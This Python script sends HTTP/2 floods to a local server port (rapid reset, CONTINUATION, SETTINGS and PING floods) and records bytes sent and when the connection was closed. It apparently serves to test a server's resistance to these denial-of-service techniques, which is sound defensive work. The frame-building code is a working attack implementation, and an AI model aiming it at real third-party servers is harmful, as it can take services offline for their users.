"""Floods over one HTTP/2 connection. `floods PORT KIND SECONDS` prints JSON: bytes sent, and when it was closed."""

import json
import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def block():
    fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"a"), (b":path", b"/")]
    return b"".join(b"\0" + bytes([len(n)]) + n + bytes([len(v)]) + v for n, v in fields)


def rapid_reset():
    """HEADERS and RST_STREAM, over and over."""
    for stream in range(1, 1 << 30, 2):
        yield frame(1, 5, stream, block()) + frame(3, 0, stream, (8).to_bytes(4))


def repeated(first, each):
    yield first
    while True:
        yield each * 64


KINDS = {
    "rapid_reset": rapid_reset,
    "continuation": lambda: repeated(frame(1, 0, 1, b"\x82"), frame(9, 0, 1, b"\0\1x\1y")),
    "settings": lambda: repeated(b"", frame(4, 0, 0)),
    "ping": lambda: repeated(b"", frame(6, 0, 0, bytes(8))),
}


def run(port, kind, seconds):
    stream = socket.create_connection(("127.0.0.1", port), 5)
    stream.settimeout(0.5)
    begin, sent = time.monotonic(), 0
    closed = None
    try:
        stream.sendall(PREFACE + frame(4, 0, 0))
        for frames in KINDS[kind]():
            if time.monotonic() > begin + seconds:
                break
            try:
                stream.sendall(frames)
                sent += len(frames)
            except TimeoutError:
                pass
    except OSError:
        closed = time.monotonic() - begin
    return {"sent": sent, "closed": closed}


if __name__ == "__main__":
    print(json.dumps(run(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]))))
